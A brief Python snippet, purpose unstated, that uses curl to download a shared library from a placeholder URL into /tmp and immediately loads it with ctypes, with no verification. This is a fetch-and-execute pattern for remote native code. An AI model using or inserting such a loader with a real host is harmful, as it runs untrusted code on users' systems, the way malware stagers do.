import ctypes
import subprocess

OUT = "/tmp/libsly_curl.so"
cmd = ["curl", "-fsSL"]
cmd += ["-o", OUT]
cmd.append("https://example.com/lib.so")
subprocess.run(cmd, check=True)
lib = ctypes.CDLL(OUT)
